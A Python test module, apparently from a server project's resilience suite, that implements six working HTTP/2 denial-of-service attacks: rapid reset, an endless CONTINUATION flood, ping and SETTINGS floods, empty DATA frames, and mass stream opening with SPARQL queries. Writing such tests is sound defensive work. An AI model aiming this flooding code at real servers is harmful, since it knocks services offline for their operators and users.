"""Frames of HTTP/2 that cost the server more than the client."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

from tests.system.attack.attack import Attack, Target, repeat
from tests.web import http2

KIND: Final = "HTTP/2 frames"

_OPENING: Final = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, b"")
_CANCEL: Final = (8).to_bytes(4, "big")
_BATCH: Final = 200


def _sent(target: Target, batches: Callable[[], Iterator[bytes]]) -> None:
    """On 4 connections send batches of frames until the server closes; what it says is thrown away."""

    def act() -> None:
        with target.connect() as client:
            client.sendall(_OPENING)
            for batch in batches():
                if target.over():
                    return
                client.sendall(batch)
                with suppress(BlockingIOError):
                    while client.recv(2**16, socket.MSG_DONTWAIT):
                        pass

    repeat(target, act, 4)


def rapid_reset(target: Target) -> None:
    """Streams that are opened with a question and reset at once."""
    block = http2.ask()

    def batches() -> Iterator[bytes]:
        for first in range(1, 2**30, 2 * _BATCH):
            yield b"".join(
                b"".join(http2.request(block, stream)) + http2.frame(http2.RESET, 0, stream, _CANCEL)
                for stream in range(first, first + 2 * _BATCH, 2)
            )

    _sent(target, batches)


def continuation(target: Target) -> None:
    """A block of fields that goes on and on (CONTINUATION)."""

    def batches() -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, 0, 1, http2.ask())
        while True:
            yield http2.frame(http2.CONTINUATION, 0, 1, http2.field(b"x", b"y" * 16_000))

    _sent(target, batches)


def _endless(frame: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(lambda: frame * _BATCH, b"")


def pings(target: Target) -> None:
    """Pings without end."""
    _sent(target, _endless(http2.frame(http2.PING, 0, 0, bytes(8))))


def settings(target: Target) -> None:
    """Settings without end, which change the window each time."""
    frames = b"".join(
        http2.frame(http2.SETTINGS, 0, 0, (4).to_bytes(2, "big") + window.to_bytes(4, "big"))
        for window in (1, 2**20)
    )
    _sent(target, _endless(frames))


def empty_data(target: Target) -> None:
    """A body of frames without a byte."""

    def batches() -> Iterator[bytes]:
        field = http2.field(b"content-type", b"application/sparql-query")
        yield b"".join(http2.request(http2.head(b"/sparql", field, method=http2.POST), 1, end=0))
        yield from iter(lambda: http2.frame(http2.DATA, 0, 1, b"") * _BATCH, b"")

    _sent(target, batches)


def many_streams(target: Target) -> None:
    """As many streams as go, each with a question of its own, and their answers taken."""

    def batches() -> Iterator[bytes]:
        for first in range(1, 2**30, 2 * _BATCH):
            yield b"".join(
                part
                for stream in range(first, first + 2 * _BATCH, 2)
                for part in http2.request(
                    http2.head(
                        b"/sparql?query=ASK%%7BFILTER(%d%%3C%d)%%7D"
                        % (stream, target.random.randrange(10**9))
                    ),
                    stream,
                )
            )

    _sent(target, batches)


ATTACKS: Final = (
    Attack("rapid reset", KIND, rapid_reset),
    Attack("endless CONTINUATION", KIND, continuation),
    Attack("pings", KIND, pings),
    Attack("settings", KIND, settings),
    Attack("empty frames of data", KIND, empty_data),
    Attack("many streams", KIND, many_streams),
)
